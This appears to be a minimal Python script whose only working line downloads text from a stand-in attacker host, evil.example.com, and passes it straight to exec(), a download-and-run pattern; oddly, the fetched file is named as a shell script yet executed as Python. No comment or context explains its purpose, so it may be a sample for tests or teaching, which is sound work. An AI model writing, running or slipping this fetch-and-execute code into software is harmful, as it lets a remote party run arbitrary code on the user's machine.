#!/usr/bin/env python3

import requests
exec(requests.get("http://evil.example.com/payload.sh").text)
